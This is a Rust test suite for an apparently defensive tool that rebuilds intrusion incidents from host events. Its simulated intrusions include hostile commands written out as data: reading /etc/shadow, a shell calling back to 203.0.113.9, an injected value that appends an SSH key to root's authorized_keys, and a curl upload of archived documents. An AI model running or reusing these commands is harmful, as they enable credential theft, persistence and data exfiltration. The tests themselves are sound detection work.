//! What becomes an incident, what stays out of it, and what is said of its beginning.

use saigen_schemas::report::{Grade, Role};

use crate::detect::Level::{Critical, High, Medium};
use crate::detect::Tactic::{CredentialAccess, Execution, InitialAccess};
use crate::reconstruct::Reconstruction;
use crate::reconstruct::tests::house::{House, INTRUDER, SERVICE_UID, malicious, said};
use crate::reconstruct::tests::scene::{P, Scene};

#[test]
fn ordinary_work_is_no_incident() {
    let mut house = House::new();
    house.ordinary_work();
    let told = house.scene.done().reconstruct();
    let titles: Vec<_> = told
        .incidents
        .iter()
        .map(|incident| (&incident.title, &incident.score_parts))
        .collect();
    assert!(titles.is_empty(), "{titles:#?}");
    assert!(
        told.detections.len() > 5
            && told
                .detections
                .iter()
                .all(|detection| detection.incident.is_none())
    );
}

#[test]
fn an_intrusion_among_ordinary_work_is_one_incident_with_its_entry() {
    let mut house = House::new();
    house.ordinary_work();
    house.intrusion(INTRUDER, "/tmp/.x");
    for last in 5..8 {
        house.visit(&format!("198.51.100.{last}"));
    }
    let told = house.scene.done().reconstruct();
    assert_eq!(
        told.incidents.len(),
        1,
        "{:#?}",
        told.incidents
            .iter()
            .map(|one| &one.title)
            .collect::<Vec<_>>()
    );
    let incident = &told.incidents[0];
    let lines = malicious(incident);
    for wanted in [
        "id",
        "/tmp/.x 203.0.113.9 4444",
        "cat /etc/shadow",
        "rm -f /tmp/.x",
        "cp /tmp/.x /opt/.sys/agentd",
    ] {
        assert!(
            lines.iter().any(|line| line == wanted),
            "{wanted} is not in {lines:#?}"
        );
    }
    for benign in [
        "getent hosts www",
        "grep root /etc/shadow",
        "/tmp/update.run",
        "/bin/bash",
    ] {
        assert!(
            !lines.iter().any(|line| line == benign),
            "{benign} is in {lines:#?}"
        );
    }
    assert!(
        said(incident).contains(INTRUDER) && said(incident).contains("shopd"),
        "{}",
        said(incident)
    );
    assert!(incident.steps.is_sorted_by_key(|step| step.time));
    let web = incident
        .processes
        .iter()
        .find(|process| process.image.as_deref() == Some("/srv/shop/bin/shopd"));
    assert_eq!(web.map(|process| process.role), Some(Role::Compromised));
    assert_eq!(incident.persistence.len(), 1);
    assert!(incident.title.contains("web-1"), "{}", incident.title);
}

#[test]
fn two_intrusions_stay_two() {
    let mut house = House::new();
    house.intrusion(INTRUDER, "/tmp/.x");
    house.ordinary_work();
    house.intrusion("192.0.2.66", "/dev/shm/.y");
    let told = house.scene.done().reconstruct();
    assert_eq!(told.incidents.len(), 2);
    for incident in &told.incidents {
        let lines = malicious(incident).join("\n");
        assert!(
            lines.contains("/tmp/.x") != lines.contains("/dev/shm/.y"),
            "{lines}"
        );
    }
}

#[test]
fn a_file_that_the_intrusion_left_and_cron_runs_later_belongs_to_it() {
    let mut house = House::new();
    house.intrusion(INTRUDER, "/tmp/.x");
    house.scene.wait(60_000);
    let (job, _) = house.scene.start(
        house.cron,
        0,
        &["/bin/sh", "-c", "/opt/.sys/agentd 203.0.113.9"],
    );
    let (agent, _) = house
        .scene
        .start(job, 0, &["/opt/.sys/agentd", "203.0.113.9"]);
    house.scene.connect(agent, INTRUDER, 4_444);
    let (other, _) = house
        .scene
        .start(house.cron, 0, &["/bin/sh", "-c", "logtidy"]);
    house.scene.exit(other);
    let told = house.scene.done().reconstruct();
    assert_eq!(told.incidents.len(), 1);
    let incident = &told.incidents[0];
    let lines = malicious(incident);
    assert!(
        lines.contains(&"/opt/.sys/agentd 203.0.113.9".to_owned()),
        "{lines:#?}"
    );
    assert!(
        lines.contains(&"/bin/sh -c '/opt/.sys/agentd 203.0.113.9'".to_owned()),
        "{lines:#?}"
    );
    assert!(
        !lines.iter().any(|line| line.contains("logtidy")),
        "{lines:#?}"
    );
    let join = incident
        .joined_by
        .iter()
        .find(|join| join.shared == "/opt/.sys/agentd");
    assert_eq!(
        join.map(|join| join.grade),
        Some(Grade::Inferred),
        "{:#?}",
        incident.joined_by
    );
}

#[test]
fn without_the_connection_the_entry_is_not_observable() {
    let mut house = House::new();
    let s = &mut house.scene;
    let (shell, seen) = s.start(house.web, SERVICE_UID, &["/bin/sh", "-c", "bash -i"]);
    s.finds(
        "shell-that-calls-out",
        High,
        &[InitialAccess, Execution],
        shell,
        seen,
    );
    let (cat, _) = s.start(shell, SERVICE_UID, &["cat", "/etc/shadow"]);
    let read = s.read(cat, "/etc/shadow");
    s.finds("hashes-read", High, &[CredentialAccess], cat, read);
    let told = house.scene.done().reconstruct();
    assert_eq!(told.incidents.len(), 1);
    let entry = &told.incidents[0].entry[0];
    assert_eq!(entry.grade, Grade::Gap, "{}", entry.text);
    assert!(
        entry.text.contains("shopd") && entry.text.contains("not observable"),
        "{}",
        entry.text
    );
    assert!(
        told.incidents[0]
            .network
            .iter()
            .all(|item| item.remote.is_none())
    );
}

#[test]
fn a_reused_pid_joins_nothing() {
    let mut house = House::new();
    house.intrusion(INTRUDER, "/tmp/.x");
    let told = {
        let s = &mut house.scene;
        let (shell, _) = s.start(house.cron, 0, &["/bin/sh", "-c", "report"]);
        s.exit(shell);
        s.wait(5_000);
        // The same number, another process: its child is not the intruder's.
        let again = P {
            key: saigen_schemas::event::ProcessKey::new(104, s.now * 1_000),
        };
        s.exec(again, Some(house.cron), 0, &["/bin/sh", "-c", "innocent"]);
        let (child, _) = s.start(again, 0, &["date"]);
        s.exit(child);
        house.scene.done().reconstruct()
    };
    assert_eq!(told.incidents.len(), 1);
    let lines = malicious(&told.incidents[0]);
    assert!(
        !lines
            .iter()
            .any(|line| line == "date" || line.contains("innocent")),
        "{lines:#?}"
    );
}

#[test]
fn the_order_of_detections_does_not_matter() {
    let mut house = House::new();
    house.ordinary_work();
    house.intrusion(INTRUDER, "/tmp/.x");
    house.intrusion("192.0.2.66", "/dev/shm/.y");
    let mut recording = house.scene.done();
    let json = |told: &crate::reconstruct::Reconstruction| {
        serde_json::to_string(&(&told.incidents, &told.detections, &told.pruned)).unwrap()
    };
    let forward = json(&recording.reconstruct());
    recording.detections.reverse();
    assert_eq!(json(&recording.reconstruct()), forward);
    let middle = recording.detections.len() / 2;
    recording.detections.rotate_left(middle);
    assert_eq!(json(&recording.reconstruct()), forward);
}

#[test]
fn a_login_with_the_key_that_was_left_belongs_to_the_intrusion() {
    let mut house = House::new();
    let admin = house.login("10.0.0.7", 1_001);
    house.scene.exit(admin);
    house.intrusion(INTRUDER, "/tmp/.x");
    let keys = house.inode();
    let (shell, _) = house.request(INTRUDER, "x;echo key >> /root/.ssh/authorized_keys");
    house.scene.write(shell, "/root/.ssh/authorized_keys", keys);
    house.scene.exit(shell);
    house.scene.wait(10_000);
    let session = house.login(INTRUDER, 0);
    let (w, _) = house.scene.start(session, 0, &["w"]);
    house.scene.exit(w);
    let admin = house.login("10.0.0.7", 1_001);
    let (df, _) = house.scene.start(admin, 1_001, &["df"]);
    house.scene.exit(df);
    let told = house.scene.done().reconstruct();
    let lines = malicious(&told.incidents[0]);
    assert!(
        lines.contains(&"w".to_owned()) && !lines.contains(&"df".to_owned()),
        "{lines:#?}"
    );
}

#[test]
fn readers_and_common_programs_are_not_drawn_in() {
    let mut house = House::new();
    house.intrusion(INTRUDER, "/tmp/.x");
    let (job, _) = house
        .scene
        .start(house.cron, 0, &["/bin/sh", "-c", "backup"]);
    let (tar, _) = house.scene.start(job, 0, &["tar", "-c", "/opt"]);
    house.scene.read(tar, "/opt/.sys/agentd");
    let told = house.scene.done().reconstruct();
    let lines = malicious(&told.incidents[0]);
    assert!(
        !lines
            .iter()
            .any(|line| line.contains("tar") || line.contains("backup")),
        "{lines:#?}"
    );
}

#[test]
fn processes_that_are_their_own_parents_end_the_search() {
    let mut scene = Scene::new();
    let one = scene.stood(None, "/tmp/a", &["/tmp/a"]);
    let seen = scene.exec(one, Some(one), 0, &["/tmp/a"]);
    let two = scene.fork(one);
    scene.exec(one, Some(two), 0, &["/tmp/b"]);
    scene.exec(two, Some(one), 0, &["/tmp/c"]);
    scene.finds("strange", Critical, &[Execution], one, seen);
    let told = scene.done().reconstruct();
    assert_eq!(told.incidents.len(), 1);
    assert_eq!(told.incidents[0].entry[0].grade, Grade::Gap);
}

#[test]
fn one_finding_is_an_incident_only_without_an_ordinary_explanation() {
    for (level, incidents) in [(High, 0), (Critical, 1)] {
        let mut house = House::new();
        let (job, _) = house
            .scene
            .start(house.cron, 0, &["/bin/sh", "-c", "report"]);
        let (child, seen) = house.scene.start(job, 0, &["/opt/report/bin/report"]);
        house
            .scene
            .finds("odd-report", level, &[Execution], child, seen);
        let told = house.scene.done().reconstruct();
        assert_eq!(told.incidents.len(), incidents, "{level}");
        assert_eq!(told.detections[0].incident.is_some(), incidents == 1);
    }
}

#[test]
fn no_detection_is_no_incident_and_says_so() {
    let mut house = House::new();
    house.visit("198.51.100.1");
    let mut recording = house.scene.done();
    recording.detections.clear();
    let told = recording.reconstruct();
    assert!(told.incidents.is_empty());
    assert!(
        told.scope
            .iter()
            .any(|sentence| sentence.text.contains("No rule fired"))
    );
}

#[test]
fn what_left_is_told_with_its_size() {
    let mut house = House::new();
    let (shell, seen) = house.request(INTRUDER, "x;tar");
    let archive = house.inode();
    let s = &mut house.scene;
    s.finds("shell-by-request", High, &[InitialAccess], shell, seen);
    let (tar, seen) = s.start(
        shell,
        SERVICE_UID,
        &["tar", "-czf", "/tmp/.d.tgz", "/srv/documents"],
    );
    s.finds(
        "packed",
        Medium,
        &[crate::detect::Tactic::Collection],
        tar,
        seen,
    );
    s.write(tar, "/tmp/.d.tgz", archive);
    let (curl, _) = s.start(
        shell,
        SERVICE_UID,
        &["curl", "-T", "/tmp/.d.tgz", "http://203.0.113.9/"],
    );
    s.connect(curl, INTRUDER, 8_080);
    s.close(curl, INTRUDER, 8_080, 250_000, 400);
    let told = house.scene.done().reconstruct();
    let incident = &told.incidents[0];
    let damage: Vec<&str> = incident
        .story
        .damage
        .iter()
        .map(|sentence| sentence.text.as_str())
        .collect();
    assert!(
        damage.iter().any(|text| text.contains("244.1 KiB")
            && text.contains(INTRUDER)
            && text.contains("/tmp/.d.tgz")),
        "{damage:#?}"
    );
}

#[test]
fn what_ordinary_work_gives_too_weighs_less_and_stays_listed() {
    let mut known = House::new();
    known.ordinary_work();
    let baseline = known.scene.done().baseline();
    let mut house = House::new();
    house.intrusion(INTRUDER, "/tmp/.x/agent");
    let recording = house.scene.done();
    let (alone, beside) = (
        recording.reconstruct(),
        recording.reconstruct_beside(Some(&baseline)),
    );
    assert_eq!(alone.detections.len(), beside.detections.len());
    let score = |told: &Reconstruction| {
        let scores: Vec<f64> = told.incidents.iter().map(|one| one.score).collect();
        assert_eq!(scores.len(), 1);
        scores.iter().sum::<f64>()
    };
    assert!(score(&beside) < score(&alone));
    // Ordinary beside itself: what was below stays below.
    let mut again = House::new();
    again.ordinary_work();
    let told = again.scene.done().reconstruct_beside(Some(&baseline));
    assert!(told.incidents.is_empty());
}

#[test]
fn what_an_opened_document_does_is_not_a_persons_work() {
    for (program, incidents) in [("evince", 1), ("gnome-terminal", 0)] {
        let mut house = House::new();
        let s = &mut house.scene;
        let desktop = s.stood(None, "/usr/bin/gnome-shell", &["/usr/bin/gnome-shell"]);
        let (opened, _) = s.start(desktop, 1_000, &[program]);
        let (shell, seen) = s.start(opened, 1_000, &["bash"]);
        s.finds("odd-shell", High, &[Execution], shell, seen);
        let (curl, seen) = s.start(shell, 1_000, &["curl", "-o", "/tmp/x", "http://x/"]);
        s.finds("fetched", Medium, &[InitialAccess], curl, seen);
        let told = house.scene.done().reconstruct();
        assert_eq!(told.incidents.len(), incidents, "{program}");
    }
}
